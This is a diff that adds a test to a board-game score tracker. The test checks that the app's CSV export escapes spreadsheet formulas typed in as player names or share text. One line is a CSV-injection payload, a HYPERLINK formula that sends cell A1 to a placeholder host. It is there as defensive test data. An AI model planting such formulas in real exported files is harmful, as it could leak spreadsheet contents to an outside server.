@@ -183,3 +183,23 @@ def test_the_csv_opens_in_a_spreadsheet_with_cyrillic_and_one_column_per_mode_fl
     table = [r for r in rows if r["game"] == "glory"]
     assert all(r["mode.expansions.harsh"] == "1" and r["mode.players"] == "4" and r["mode.surprise"] == "" for r in table)
     assert {r["rank"] for r in table} <= {"1", "2", "3", "4"} and all(r["play_date"] for r in table)
+
+
+def test_no_csv_cell_a_player_typed_opens_as_a_formula_in_a_spreadsheet(state_dir):
+    # A spreadsheet runs a cell that starts with = + - @ as a formula (CSV injection): a name or a
+    # players' share typed at the table must open as the text it is (a leading apostrophe, as
+    # OWASP's CSV-injection guidance has it), while numbers stay numbers.
+    share = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    replies = run_console(state_dir, ["new jc-battle people=caesar:-A1,pompey:+B2", f"share {share}",
+                                      "add attacker c_leg10", "add defender p_leg1", "fight", "end",
+                                      "export format=csv", "export format=bgstats id=1"])
+    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]
+    sheet, play = replies[-2], replies[-1]
+    rows = list(csv.DictReader(io.StringIO(sheet["text"].lstrip("\ufeff"))))
+    assert {r["player"] for r in rows} == {"'-A1", "'+B2"}
+    assert {r["share"] for r in rows} == {"'" + share}
+    for r in rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in r.values()), r
+    assert all(r["score"].isdigit() for r in rows if r["status"] == "finished")     # numbers stay numbers
+    # BG Stats takes the names as they are (no spreadsheet there)
+    assert [p["name"] for p in play["play"]["players"]] == ["-A1", "+B2"]
